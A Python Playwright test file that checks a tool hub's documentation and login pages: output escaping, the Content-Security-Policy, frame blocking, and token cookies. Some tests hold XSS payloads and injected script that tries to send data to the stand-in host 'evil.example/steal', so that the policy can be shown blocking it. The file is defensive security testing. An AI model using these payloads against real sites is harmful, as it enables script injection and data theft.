"""The hub's own pages in a browser: the page of its tools, and the one that asks for the token."""

import asyncio
import json
import re
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any

import httpx
import pytest
import pytest_asyncio
import trustme
from playwright.async_api import Browser, Response, Route

from grpc_tool_bridge import BridgeServer, Settings
from grpc_tool_bridge.gateway.login import COOKIE
from support.browser import Site, Tab, open_tab
from support.needs import needs
from support.patience import PATIENCE
from support.waiting import until

pytestmark = [needs("chromium"), pytest.mark.asyncio(loop_scope="module"), pytest.mark.xdist_group("browser")]

HTML = {"accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
# A browser's console counts the answer that a page to log in comes with as an error.
UNAUTHORIZED = "Failed to load resource: the server responded with a status of 401 (Unauthorized)"


async def add(a: int, b: int = 1) -> int:
    """Adds `a` and `b`."""
    return a + b


async def inject(text: str = "<img src=x onerror=alert(1)>") -> str:
    """Says <script>alert(1)</script> and <img src=x onerror=alert(1)>."""
    return text


Serve = Callable[..., Awaitable[str]]


@pytest_asyncio.fixture(loop_scope="module")
async def serve() -> AsyncIterator[Serve]:
    """Starts hubs with a session "demo"; gives the origin of each."""
    async with AsyncExitStack() as stack:

        async def start(**settings: Any) -> str:
            server = BridgeServer(tools=[add, inject], http_address="127.0.0.1:0", settings=Settings(**settings))
            await stack.enter_async_context(server)
            origin = f"{'https' if 'tls_cert' in settings else 'http'}://{server.http_address}"
            headers = {"authorization": f"Bearer {settings.get('token')}"}
            async with httpx.AsyncClient(base_url=origin, verify=False, headers=headers) as client:
                assert (await client.post("/api/sessions", json={"session_id": "demo"})).status_code == 201
            return origin

        yield start


async def opened(tab: Tab, url: str) -> Response:
    """Opens a page; returns its response."""
    response = await tab.page.goto(url)
    assert response is not None
    return response


async def log_in(tab: Tab, token: str) -> None:
    """Logs in by keyboard alone, from a page that has just been opened: the field gets the focus by itself."""
    await tab.page.wait_for_selector("#token:focus")
    await tab.page.keyboard.type(token)
    await tab.page.keyboard.press("Enter")


# ------------------------------------------------------------------------------------------------- the page of tools


async def test_the_page_lists_the_tools_and_loads_nothing_from_elsewhere(tab: Tab, serve: Serve) -> None:
    origin = await serve()
    await tab.page.goto(f"{origin}/docs")
    summary = tab.page.get_by_text("/api/sessions/{session_id}/tools/add/execute")
    await summary.wait_for()
    assert await tab.page.get_by_role("button", name="Log out").count() == 0
    assert tab.complaints == []
    assert tab.requested_outside(origin) == []
    assert tab.requested[:2] == [f"{origin}/docs", f"{origin}/openapi.json"]


async def test_the_page_calls_a_tool_by_its_form(tab: Tab, serve: Serve) -> None:
    await tab.page.goto(f"{await serve()}/docs?session_id=demo")
    await tab.page.get_by_text("/api/sessions/{session_id}/tools/add/execute").click()
    box = tab.page.locator("details[open]")
    await box.get_by_label("Body (JSON)").fill('{"kwargs": {"a": 2, "b": 3}}')
    await box.get_by_role("button", name="Send").click()
    output = box.get_by_role("status").filter(has_text="request_id")
    status, _, answer = (await output.inner_text()).partition("\n")
    assert (status, json.loads(answer)["result"]) == ("200", 5)
    assert tab.complaints == []


async def test_the_page_streams_a_tool_by_its_form(tab: Tab, serve: Serve) -> None:
    await tab.page.goto(f"{await serve()}/docs?session_id=demo")
    await tab.page.locator("summary", has_text=re.compile(r"^GET.*/tools/add/stream")).click()
    box = tab.page.locator("details[open]")
    await box.get_by_label("a (query, required)").fill("2")
    await box.get_by_role("button", name="Send").click()
    await box.get_by_role("status").filter(has_text="event: complete").wait_for()
    assert "data: 3" in await box.get_by_role("status").inner_text()


async def test_the_page_streams_over_plain_http_under_a_name(tab: Tab, serve: Serve) -> None:
    """Where a browser does not say by itself which page asks."""
    origin = (await serve(http_hosts=("hub.example",))).replace("127.0.0.1", "hub.example")
    await tab.page.goto(f"{origin}/docs?session_id=demo")
    await tab.page.locator("summary", has_text=re.compile(r"^GET.*/tools/add/stream")).click()
    box = tab.page.locator("details[open]")
    await box.get_by_label("a (query, required)").fill("2")
    await box.get_by_role("button", name="Send").click()
    await box.get_by_role("status").filter(has_text="event: complete").wait_for()


async def test_the_page_sends_nothing_while_a_required_field_is_empty(tab: Tab, serve: Serve) -> None:
    await tab.page.goto(f"{await serve()}/docs")
    await tab.page.get_by_text("/api/sessions/{session_id}/tools/add/execute").click()
    box = tab.page.locator("details[open]")
    asked = len(tab.requested)
    await box.get_by_role("button", name="Send").click()
    field = box.get_by_label("session_id (path, required)")
    assert await field.evaluate("(field) => document.activeElement === field && !field.checkValidity()")
    assert len(tab.requested) == asked


async def test_the_page_finds_by_words_and_says_how_many(tab: Tab, serve: Serve) -> None:
    await tab.page.goto(f"{await serve()}/docs")
    await tab.page.get_by_label("Find").fill("adds")
    await tab.page.get_by_text("3 operations").wait_for()
    assert await tab.page.locator("section:visible h2").all_inner_texts() == ["tools of this hub"]


async def test_the_page_finds_by_words_that_were_typed_while_it_was_loading(tab: Tab, serve: Serve) -> None:
    held: asyncio.Future[Route] = asyncio.get_running_loop().create_future()

    async def hold(route: Route) -> None:
        held.set_result(route)

    await tab.page.route("**/openapi.json", hold)
    await tab.page.goto(f"{await serve()}/docs")
    loading = await asyncio.wait_for(held, PATIENCE)
    await tab.page.get_by_label("Find").fill("adds")
    await loading.continue_()
    await tab.page.get_by_text("3 operations").wait_for()
    assert tab.complaints == []


async def test_what_a_tool_says_of_itself_is_text_and_never_markup(tab: Tab, serve: Serve) -> None:
    await tab.page.goto(f"{await serve()}/docs?session_id=demo")
    await tab.page.get_by_text("/api/sessions/{session_id}/tools/inject/execute").click()
    box = tab.page.locator("details[open]")
    await box.get_by_text("Says <script>alert(1)</script>").wait_for()
    await box.get_by_role("button", name="Send").click()
    await box.get_by_role("status").filter(has_text="onerror=alert(1)").wait_for()
    assert await tab.page.locator("img").count() == 0
    assert tab.complaints == []


async def test_markup_that_gets_into_a_page_all_the_same_does_nothing(tab: Tab, serve: Serve) -> None:
    """What the policy would stop, should a page ever have such a fault."""
    origin = await serve()
    await tab.page.goto(f"{origin}/docs")
    await tab.page.evaluate("""() => {
      window.ran = [];
      const put = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
      try { document.body.innerHTML += "<b>"; ran.push("innerHTML"); } catch {}
      try { put("script", { textContent: "ran.push('script')" }); } catch {}
      put("button", { id: "trap" });
      try { document.getElementById("trap").setAttribute("onclick", "ran.push('onclick')"); trap.click(); } catch {}
      put("img", { src: "http://evil.example/steal" });
      put("form", { action: "http://evil.example/steal", id: "away" });
      away.submit();
    }""")
    stolen = "fetch('http://evil.example/steal').then(() => 'read', () => '')"
    assert await tab.page.evaluate(stolen) == ""
    assert await tab.page.evaluate("ran") == []
    stopped = {"connect-src", "form-action", "img-src", "require-trusted-types-for"}
    # The page tells of them one by one.
    await until(lambda: {text.partition(":")[0] for text in tab.violations} >= stopped)


@pytest.mark.parametrize("token", [None, "hush"], ids=["docs", "login"])
async def test_a_page_cannot_be_framed_by_another_site_nor_by_its_own(
    tab: Tab, serve: Serve, token: str | None
) -> None:
    origin = await serve(token=token)
    frame_it = """(url) => new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.onload = done;
      frame.src = url;
      document.body.append(frame);
    })"""
    async with Site() as site:
        # The second is of the hub, and has no policy that would keep it from framing.
        for outside in (site.origin_at("127.0.0.1"), f"{origin}/healthz"):
            await tab.page.goto(outside)
            await tab.page.evaluate(frame_it, f"{origin}/docs")
            (frame,) = tab.page.frames[1:]
            assert "gRPC tool bridge" not in await frame.title()
    assert any("frame-ancestors 'none'" in text for text in tab.errors)


@pytest.mark.parametrize("token", [None, "hush"], ids=["docs", "login"])
async def test_pages_have_the_headers_that_keep_others_out(serve: Serve, token: str | None) -> None:
    async with httpx.AsyncClient(base_url=await serve(token=token), timeout=PATIENCE) as client:
        headers = (await client.get("/docs", headers=HTML)).headers
    policy = headers["content-security-policy"].split("; ")
    assert {"default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'none'"} <= set(policy)
    assert "unsafe" not in headers["content-security-policy"]
    assert {
        "cache-control": "no-store",
        "cross-origin-opener-policy": "same-origin",
        "cross-origin-resource-policy": "same-origin",
        "referrer-policy": "no-referrer",
        "x-content-type-options": "nosniff",
    }.items() <= dict(headers).items()


# --------------------------------------------------------------------------------------------------------- the log-in


async def test_a_person_logs_in_and_is_where_they_wanted_to_be(tab: Tab, serve: Serve) -> None:
    origin = await serve(token="hush")
    wanted = f"{origin}/docs?session_id=demo#tools"
    assert (await opened(tab, wanted)).status == 401
    assert await tab.page.title() == "Log in to gRPC tool bridge"
    await log_in(tab, "hush")
    await tab.page.get_by_text("/api/sessions/{session_id}/tools/add/execute").wait_for()
    assert tab.page.url == wanted
    assert await tab.page.get_by_label("Session").input_value() == "demo"
    (cookie,) = await tab.context.cookies()
    assert cookie["name"].startswith(COOKIE)
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["expires"]) == (True, "Strict", -1)
    assert "hush" not in cookie["value"]
    assert await tab.page.evaluate("document.cookie") == ""
    assert set(tab.errors) == {UNAUTHORIZED}
    assert (tab.failed, tab.violations, tab.requested_outside(origin)) == ([], [], [])
    # The token is in no address.
    assert not [url for url in tab.requested if "hush" in url]


async def test_a_wrong_token_is_told_in_words_and_can_be_mended(tab: Tab, serve: Serve) -> None:
    await tab.page.goto(f"{await serve(token='hush')}/docs")
    await log_in(tab, "wrong")
    alert = tab.page.get_by_role("alert").filter(has_text="This token is wrong")
    await alert.wait_for()
    field = tab.page.get_by_label("Token")
    assert await field.get_attribute("aria-invalid") == "true"
    assert await field.evaluate("(field) => document.activeElement === field")
    assert await tab.context.cookies() == []
    # The wrong one is selected, so that typing replaces it.
    await log_in(tab, "hush")
    await tab.page.get_by_role("button", name="Log out").wait_for()


async def test_an_empty_token_is_not_sent(tab: Tab, serve: Serve) -> None:
    await tab.page.goto(f"{await serve(token='hush')}/docs")
    await tab.page.wait_for_selector("#token:focus")
    await tab.page.keyboard.press("Enter")
    assert await tab.page.get_by_label("Token").evaluate("(field) => field.validity.valueMissing")
    assert not [url for url in tab.requested if url.endswith("/api/login")]


async def test_the_page_to_log_in_can_be_used_by_keyboard_and_is_named_for_screen_readers(
    tab: Tab, serve: Serve
) -> None:
    await tab.page.goto(f"{await serve(token='hush')}/docs")
    tree = await tab.page.locator("body").aria_snapshot()
    for part in ('heading "Log in" [level=1]', 'textbox "Token"', 'button "Log in"', "main", "alert"):
        assert part in tree
    assert await tab.page.evaluate("document.documentElement.lang") == "en"
    # From the field, which has the focus at first, to the button.
    await tab.page.wait_for_selector("#token:focus")
    await tab.page.keyboard.type("hush")
    await tab.page.keyboard.press("Tab")
    await tab.page.keyboard.press("Space")
    await tab.page.get_by_role("button", name="Log out").wait_for()


async def test_a_hub_that_does_not_answer_is_told_at_the_log_in(tab: Tab, serve: Serve) -> None:
    await tab.page.goto(f"{await serve(token='hush')}/docs")
    await tab.context.set_offline(True)
    await log_in(tab, "hush")
    await tab.page.get_by_role("alert").filter(has_text="The hub does not answer").wait_for()


async def test_a_person_logs_out_and_has_to_log_in_again(tab: Tab, serve: Serve) -> None:
    origin = await serve(token="hush")
    await tab.page.goto(f"{origin}/docs")
    await log_in(tab, "hush")
    await tab.page.get_by_role("button", name="Log out").click()
    await tab.page.get_by_label("Token").wait_for()
    assert await tab.context.cookies() == []
    assert await tab.page.evaluate("async () => (await fetch('/api/sessions')).status") == 401
    assert (await opened(tab, f"{origin}/docs")).status == 401


async def test_a_login_that_is_over_is_told_where_the_page_calls(tab: Tab, serve: Serve) -> None:
    await tab.page.goto(f"{await serve(token='hush')}/docs?session_id=demo")
    await log_in(tab, "hush")
    await tab.page.get_by_text("/api/sessions/{session_id}/tools/add/execute").click()
    await tab.context.clear_cookies()
    box = tab.page.locator("details[open]")
    await box.get_by_role("button", name="Send").click()
    await box.get_by_role("status").filter(has_text="Reload this page to log in again.").wait_for()


async def test_a_person_is_logged_in_to_two_hubs_of_a_host_beside_cookies_of_other_programs(
    tab: Tab, serve: Serve
) -> None:
    hubs = [await serve(token="hush"), await serve(token="hush")]
    async with Site() as site:
        await tab.page.goto(site.origin_at("127.0.0.1"))
        await tab.page.evaluate("""() => { document.cookie = 'settings={"a": [1, 2]}'; }""")
    for origin in hubs:
        await tab.page.goto(f"{origin}/docs")
        await log_in(tab, "hush")
        await tab.page.get_by_role("button", name="Log out").wait_for()
    for origin in hubs:
        assert (await opened(tab, f"{origin}/docs")).status == 200


async def test_another_browser_is_not_logged_in(browser: Browser, tab: Tab, serve: Serve) -> None:
    origin = await serve(token="hush")
    await tab.page.goto(f"{origin}/docs")
    await log_in(tab, "hush")
    await tab.page.get_by_role("button", name="Log out").wait_for()
    assert (await opened(await open_tab(browser), f"{origin}/docs")).status == 401


async def test_over_tls_the_cookie_is_only_sent_over_tls(browser: Browser, serve: Serve, tmp_path: Path) -> None:
    issued = trustme.CA().issue_cert("127.0.0.1")
    issued.private_key_and_cert_chain_pem.write_to_path(str(tmp_path / "hub.pem"))
    tab = await open_tab(browser, ignore_https_errors=True)
    origin = await serve(token="hush", tls_cert=tmp_path / "hub.pem", tls_key=tmp_path / "hub.pem")
    await tab.page.goto(f"{origin}/docs")
    await log_in(tab, "hush")
    await tab.page.get_by_role("button", name="Log out").wait_for()
    (cookie,) = await tab.context.cookies()
    assert cookie["secure"]


@pytest.mark.parametrize(
    ("path", "headers"),
    [
        ("/docs", {}),
        ("/docs", {"accept": "application/json"}),
        ("/docs", {**HTML, "authorization": "Bearer wrong"}),
        ("/docs", {**HTML, "sec-fetch-mode": "cors"}),
        ("/docs", {**HTML, "cookie": f"{COOKIE}=forged", "sec-fetch-mode": "no-cors"}),
        ("/openapi.json", HTML),
        ("/api/sessions", HTML),
        ("/nothing", HTML),
    ],
    ids=str,
)
async def test_a_program_without_the_token_gets_an_error_and_no_page(
    serve: Serve, path: str, headers: dict[str, str]
) -> None:
    async with httpx.AsyncClient(base_url=await serve(token="hush"), timeout=PATIENCE) as client:
        response = await client.get(path, headers=headers)
    assert (response.status_code, response.headers["www-authenticate"]) == (401, "Bearer")
    assert response.json()["error"]["type"] == "Unauthenticated"


async def test_a_program_logs_out(serve: Serve) -> None:
    async with httpx.AsyncClient(base_url=await serve(token="hush"), timeout=PATIENCE) as client:
        assert (await client.post("/api/login", json={"token": "hush"})).status_code == 200
        assert (await client.get("/api/sessions")).status_code == 200
        given = await client.post("/api/logout")
        assert (given.status_code, given.json()) == (200, {"status": "ok"})
        assert "Max-Age=0" in given.headers["set-cookie"]
        assert (await client.get("/api/sessions")).status_code == 401
